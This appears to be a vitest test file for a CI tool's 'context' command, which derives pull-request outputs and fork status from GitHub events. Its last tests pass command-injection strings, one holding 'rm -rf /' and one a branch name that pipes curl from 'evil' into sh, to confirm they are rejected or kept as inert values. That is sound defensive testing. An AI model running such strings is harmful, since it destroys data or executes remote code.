import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { reel, type Ran } from '../reel.ts';
import { temporaryFolder } from '../temporary-folder.ts';
import { stubGh, type Answer } from './stub-gh.ts';

const sha = 'a'.repeat(40);

const pull = (more: { repo?: string | null; ref?: string; state?: string } = {}): object => ({
  number: 12,
  state: more.state ?? 'open',
  head: {
    ref: more.ref ?? 'feature',
    sha,
    repo: more.repo === null ? null : { full_name: more.repo ?? 'acme/app' },
  },
  base: { ref: 'main', sha: 'b'.repeat(40), repo: { full_name: 'acme/app', default_branch: 'main' } },
});

interface Seen extends Ran {
  readonly outputs: Record<string, string>;
}

async function contextOf(
  event: object,
  {
    env = {},
    words = [],
    answers = [],
  }: { env?: Record<string, string>; words?: string[]; answers?: Answer[] } = {},
): Promise<Seen> {
  const folder = temporaryFolder({ 'event.json': JSON.stringify(event), outputs: '' });
  const ran = await reel(['ci', 'context', ...words], {
    cwd: folder,
    env: {
      ...stubGh(answers).env,
      GITHUB_EVENT_PATH: join(folder, 'event.json'),
      GITHUB_OUTPUT: join(folder, 'outputs'),
      GITHUB_REF_TYPE: 'branch',
      GITHUB_REF_NAME: 'feature',
      GITHUB_SHA: sha,
      ...env,
    },
  });
  const text = readFileSync(join(folder, 'outputs'), 'utf8');
  const outputs = Object.fromEntries(
    Array.from(text.matchAll(/^([\w-]+)<<(\S+)\n([\s\S]*?)\n\2$/gm), ([, name, , value]) => [name, value]),
  ) as Record<string, string>;
  return { ...ran, outputs };
}

test('a pull request of the same repository may have keys and is pushed to', async () => {
  const { code, outputs } = await contextOf({ pull_request: pull() });

  expect(code).toBe(0);
  expect(outputs).toEqual({
    'pull-request': '12',
    'head-ref': 'feature',
    'head-sha': sha,
    'base-ref': 'main',
    'is-fork': 'false',
  });
});

test.for([
  ['of a fork', 'mallory/app'],
  ['of a fork that was deleted', null],
] as const)('a pull request %s gets no keys', async ([, repo]) => {
  expect((await contextOf({ pull_request: pull({ repo }) })).outputs['is-fork']).toBe('true');
});

test('a fork stays one when a maintainer asks for its pull request', async () => {
  const answers = [
    { match: 'repos/acme/app/pulls/12$', stdout: JSON.stringify(pull({ repo: 'mallory/app' })) },
  ];
  const asked = await contextOf({}, { words: ['--pull-request=12'], answers });
  const comment = await contextOf({ issue: { number: 12, pull_request: {} } }, { answers });

  expect(asked.outputs['is-fork']).toBe('true');
  expect(comment.outputs['is-fork']).toBe('true');
});

test('a branch finds its pull request', async () => {
  const answers = [{ match: 'pulls\\?state=open&head=acme%3Afeature$', stdout: JSON.stringify([pull()]) }];
  const event = { repository: { default_branch: 'main' } };

  expect((await contextOf(event, { answers, words: ['--pull-request='] })).outputs).toMatchObject({
    'pull-request': '12',
    'is-fork': 'false',
  });
});

test('a branch without a pull request is recorded for, too', async () => {
  const answers = [
    { match: 'pulls', stdout: '[]' },
    { match: 'repos/acme/app$', stdout: '{"default_branch":"main"}' },
  ];
  expect((await contextOf({}, { answers })).outputs).toMatchObject({
    'pull-request': '',
    'base-ref': 'main',
  });
});

describe('nothing is set', () => {
  test.for([
    ['for the default branch', { repository: { default_branch: 'feature' } }, 'nothing is pushed there'],
    [
      'for a pull request from the default branch',
      { pull_request: pull({ ref: 'main' }) },
      'nothing is pushed there',
    ],
    ['for a closed pull request', { pull_request: pull({ state: 'closed' }) }, 'is closed'],
  ] as const)('%s', async ([, event, why]) => {
    const { code, outputs, stderr } = await contextOf(event);
    expect({ code, outputs, isTold: stderr.includes(why) }).toEqual({ code: 2, outputs: {}, isTold: true });
  });

  test('for a tag', async () => {
    const { code, stderr } = await contextOf({}, { env: { GITHUB_REF_TYPE: 'tag' } });
    expect({ code, isTold: stderr.includes('no branch') }).toEqual({ code: 2, isTold: true });
  });

  test('for a number that is none', async () => {
    const { code, stderr } = await contextOf({}, { words: ['--pull-request=1; rm -rf /'] });
    expect({ code, isTold: stderr.includes('takes a number') }).toEqual({ code: 2, isTold: true });
  });
});

test('a branch whose name is an attack stays a value', async () => {
  const ref = 'x";curl${IFS}evil|sh;#`id`';
  expect((await contextOf({ pull_request: pull({ ref }) })).outputs['head-ref']).toBe(ref);
});
